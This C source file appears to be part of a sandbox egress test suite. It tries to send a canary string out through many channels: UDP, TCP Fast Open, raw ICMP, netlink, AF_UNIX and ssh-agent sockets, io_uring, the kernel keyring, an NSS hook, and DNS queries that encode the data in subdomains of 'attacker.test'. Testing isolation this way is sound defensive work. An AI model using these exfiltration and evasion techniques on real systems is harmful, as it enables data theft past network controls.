/* Sections C, D and E: sockets that no library makes, and calls around connect. */
#include "../native.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static struct sockaddr_in to(const char *address, int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

	inet_pton(AF_INET, address, &a.sin_addr);
	return a;
}

static struct sockaddr_in to_sink(int port)
{
	return to(target("sink_host"), port);
}

static int made(int family, int type, int protocol)
{
	int s = (int)syscall(SYS_socket, family, type, protocol);

	if (s < 0)
		say("socket(%d, %d, %d): %s", family, type, protocol, strerror(errno));
	return s;
}

static void connect_and_write(int s, const void *address, socklen_t size, const void *data, size_t len)
{
	if (s < 0)
		return;
	if (syscall(SYS_connect, s, address, size) || syscall(SYS_write, s, data, len) < 0)
		say("connect: %s", strerror(errno));
	close(s);
}

/* --- NE-23, NE-24, NE-28: sends that connect nothing, or without connect ------------------------------------- */

ACT(udp_sendto)
{
	struct sockaddr_in a = to_sink(5353);
	int s = made(AF_INET, SOCK_DGRAM, 0);

	if (syscall(SYS_sendto, s, target("canary"), strlen(target("canary")), 0, &a, sizeof a) < 0)
		say("sendto: %s", strerror(errno));
	return 0;
}

ACT(udp_sendmmsg)
{
	static const char *const where[] = {"198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.100.4"};
	struct sockaddr_in a[4];
	struct iovec data = {(void *)target("canary"), strlen(target("canary"))};
	struct mmsghdr messages[3] = {0};
	/* The name on a page of its own, behind the header's. */
	char *pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct msghdr *header = (void *)(pages + 4096 - sizeof *header);
	int s = made(AF_INET, SOCK_DGRAM, 0);

	for (int i = 0; i < 4; i++)
		a[i] = to(where[i], 4444);
	for (int i = 0; i < 3; i++)
		messages[i].msg_hdr = (struct msghdr){.msg_name = &a[i], .msg_namelen = sizeof a[i], .msg_iov = &data, .msg_iovlen = 1};
	if (syscall(SYS_sendmmsg, s, messages, 3, 0) < 0)
		say("sendmmsg: %s", strerror(errno));
	memcpy(pages + 4096, &a[3], sizeof a[3]);
	*header = (struct msghdr){.msg_name = pages + 4096, .msg_namelen = sizeof a[3], .msg_iov = &data, .msg_iovlen = 1};
	if (syscall(SYS_sendmsg, s, header, 0) < 0)
		say("sendmsg: %s", strerror(errno));
	return 0;
}

ACT(fast_open)
{
	struct sockaddr_in a = to_sink(4444);
	struct iovec data = {(void *)target("canary"), strlen(target("canary"))};
	struct msghdr header = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &data, .msg_iovlen = 1};

	if (syscall(SYS_sendto, made(AF_INET, SOCK_STREAM, 0), data.iov_base, data.iov_len, MSG_FASTOPEN, &a, sizeof a) < 0)
		say("sendto: %s", strerror(errno));
	if (syscall(SYS_sendmsg, made(AF_INET, SOCK_STREAM, 0), &header, MSG_FASTOPEN) < 0)
		say("sendmsg: %s", strerror(errno));
	return 0;
}

/* --- NE-30, NE-31, NE-32: other protocols and families --------------------------------------------------------- */

ACT(odd_protocols)
{
	static const struct { int type, protocol; } odd[] = {{SOCK_STREAM, 262}, {SOCK_STREAM, 132}, {SOCK_DGRAM, 136}, {6, 33}};
	struct sockaddr_in a = to_sink(4444);

	for (size_t i = 0; i < sizeof odd / sizeof *odd; i++)
		connect_and_write(made(AF_INET, odd[i].type, odd[i].protocol), &a, sizeof a, target("canary"), strlen(target("canary")));
	return 0;
}

ACT(icmp)
{
	static const int types[] = {SOCK_DGRAM, SOCK_RAW};
	struct sockaddr_in a = to_sink(0);
	char packet[128] = {8};
	size_t len = 8 + strlen(target("canary"));
	unsigned sum = 0;

	memcpy(packet + 8, target("canary"), strlen(target("canary")));
	for (size_t i = 0; i < sizeof packet; i += 2)
		sum += (unsigned)((unsigned char)packet[i] << 8 | (unsigned char)packet[i + 1]);
	sum = ~((sum >> 16) + (sum & 0xffff)) & 0xffff;
	packet[2] = (char)(sum >> 8);
	packet[3] = (char)sum;
	for (int i = 0; i < 2; i++) {
		int s = made(AF_INET, types[i], IPPROTO_ICMP);
		if (s >= 0 && syscall(SYS_sendto, s, packet, len, 0, &a, sizeof a) < 0)
			say("sendto: %s", strerror(errno));
	}
	return 0;
}

static void tell_group(void)
{
	struct sockaddr_nl group = {.nl_family = AF_NETLINK, .nl_groups = 1};
	int s = made(AF_NETLINK, SOCK_DGRAM, NETLINK_USERSOCK);

	if (s >= 0 && syscall(SYS_sendto, s, target("canary"), strlen(target("canary")), 0, &group, sizeof group) < 0)
		say("netlink: %s", strerror(errno));
}

ACT(families)
{
	static const struct { const char *name; int family, type, protocol; } odd[] = {
		{"PACKET", AF_PACKET, SOCK_DGRAM, 0x0300}, {"VSOCK", AF_VSOCK, SOCK_STREAM, 0}, {"ALG", AF_ALG, SOCK_SEQPACKET, 0},
		{"BLUETOOTH", AF_BLUETOOTH, SOCK_RAW, 1}, {"XDP", 44, SOCK_RAW, 0}, {"TIPC", AF_TIPC, SOCK_STREAM, 0}, {"KCM", 41, SOCK_DGRAM, 0},
		{"SMC", 43, SOCK_STREAM, 0},
	};

	tell_group();
	for (size_t i = 0; i < sizeof odd / sizeof *odd; i++) {
		int s = made(odd[i].family, odd[i].type, odd[i].protocol);
		if (s >= 0)
			printf("MADE:%s\n", odd[i].name);
	}
	fflush(stdout);
	return 0;
}

/* --- NE-34, IP-04: AF_UNIX ------------------------------------------------------------------------------------- */

static void tell_unix(const char *name, size_t len)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};

	memcpy(a.sun_path, name, len < sizeof a.sun_path ? len : sizeof a.sun_path);
	connect_and_write(made(AF_UNIX, SOCK_STREAM, 0), &a, (socklen_t)(sizeof a.sun_family + len), target("canary"), strlen(target("canary")));
}

ACT(abstract_relay)
{
	char name[100];

	tell_unix(name, (size_t)snprintf(name, sizeof name, "%c%s", 0, target("relay")));
	return 0;
}

/* Wherever /proc/net/unix names one, and where a look into the machine's /tmp would have found it. */
ACT(find_agent)
{
	char line[512], *at;
	FILE *f = fopen("/proc/net/unix", "re");

	while (f && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		if ((at = strstr(line, "/tmp/ssh-pwfix")))
			tell_unix(at, strlen(at) + 1);
	}
	if (f)
		fclose(f);
	tell_unix(target("agent"), strlen(target("agent")) + 1);
	return 0;
}

/* --- NE-47: io_uring makes, connects and sends ------------------------------------------------------------------ */

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_make(struct ring *r)
{
	struct io_uring_params p = {0};
	char *sq, *cq;

	r->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -1;
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof *r->cqes, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof *r->sqes, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return -1;
	r->sq_tail = (void *)(sq + p.sq_off.tail), r->sq_mask = (void *)(sq + p.sq_off.ring_mask), r->sq_array = (void *)(sq + p.sq_off.array);
	r->cq_head = (void *)(cq + p.cq_off.head), r->cq_tail = (void *)(cq + p.cq_off.tail), r->cq_mask = (void *)(cq + p.cq_off.ring_mask);
	r->cqes = (void *)(cq + p.cq_off.cqes);
	return 0;
}

static int ring_do(struct ring *r, struct io_uring_sqe sqe)
{
	unsigned tail = *r->sq_tail, index = tail & *r->sq_mask;
	int result;

	r->sqes[index] = sqe;
	r->sq_array[index] = index;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0 || __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE) == *r->cq_head)
		return -EIO;
	result = r->cqes[*r->cq_head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, *r->cq_head + 1, __ATOMIC_RELEASE);
	return result;
}

ACT(uring_network)
{
	struct ring r;
	struct sockaddr_in a = to_sink(4444);
	int s;

	if (ring_make(&r)) {
		say("io_uring_setup: %s", strerror(errno));
		return 0;
	}
	s = ring_do(&r, (struct io_uring_sqe){.opcode = 45 /* IORING_OP_SOCKET */, .fd = AF_INET, .off = SOCK_STREAM});
	if (s < 0 || ring_do(&r, (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = s, .addr = (uint64_t)(uintptr_t)&a, .off = sizeof a}) < 0)
		say("io_uring: no connection");
	else
		ring_do(&r, (struct io_uring_sqe){.opcode = IORING_OP_SEND, .fd = s, .addr = (uint64_t)(uintptr_t)target("canary"), .len = (uint32_t)strlen(target("canary"))});
	return 0;
}

/* --- NR-03, NR-12: names ------------------------------------------------------------------------------------------ */

static size_t query(unsigned char *packet, const char *head, int type)
{
	char name[256];
	unsigned char *p = packet + 12;

	memcpy(packet, "\0\7\1\0\0\1\0\0\0\0\0\0", 12);
	snprintf(name, sizeof name, "%s.%s.attacker.test", head, target("canary"));
	for (char *save, *label = strtok_r(name, ".", &save); label; label = strtok_r(NULL, ".", &save)) {
		*p++ = (unsigned char)strlen(label);
		p = memcpy(p, label, strlen(label));
		p += strlen(label);
	}
	memcpy(p, "\0\0", 2);
	p[2] = (unsigned char)type;
	memcpy(p + 3, "\0\1", 2);
	return (size_t)(p + 5 - packet);
}

ACT(dns_packets)
{
	static const struct { const char *where, *head; int type; } queries[] = {{"", "null", 10}, {"", "txt", 16}, {"203.0.113.53", "far", 16}};

	for (size_t i = 0; i < 3; i++) {
		unsigned char packet[512];
		struct sockaddr_in a = *queries[i].where ? to(queries[i].where, 53) : to_sink(53);
		size_t len = query(packet, queries[i].head, queries[i].type);
		if (syscall(SYS_sendto, made(AF_INET, SOCK_DGRAM, 0), packet, len, 0, &a, sizeof a) < 0)
			say("sendto: %s", strerror(errno));
	}
	return 0;
}

/* What libc calls of libnss_pwfix.so.2. */
int pw_act(const char *name, const char *path);
enum nss_status_ { NOT_FOUND = 0 };
__attribute__((visibility("default"))) int _nss_pwfix_gethostbyname2_r(const char *name, int family, struct hostent *result, char *buffer, size_t size, int *error,
                                                                      int *h_error);
__attribute__((visibility("default"))) int _nss_pwfix_gethostbyname2_r(const char *name, int family, struct hostent *result, char *buffer, size_t size, int *error,
                                                                      int *h_error)
{
	(void)name, (void)family, (void)result, (void)buffer, (void)size;
	pw_act("nss", getenv("PWFIX_TARGETS"));
	*error = ENOENT;
	*h_error = HOST_NOT_FOUND;
	return NOT_FOUND;
}

ACT(nss)
{
	return leak(target("canary"), strlen(target("canary")));
}

/* --- IP-15, IP-19 ---------------------------------------------------------------------------------------------------- */

ACT(whoami)
{
	printf("EUID %d of %d\n", (int)geteuid(), (int)getuid());
	fflush(stdout);
	return 0;
}

ACT(key_rings)
{
	long key = syscall(SYS_add_key, "user", "pwfix", target("canary"), strlen(target("canary")), -3 /* the session's */);
	long found = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", "pwfix", 0);
	char text[128] = "";

	if (key < 0 && found < 0) {
		say("keys: %s", strerror(errno));
		return 0;
	}
	syscall(SYS_keyctl, 11 /* KEYCTL_READ */, found, text, sizeof text - 1);
	printf("KEYS:%s\n", text);
	fflush(stdout);
	return 0;
}
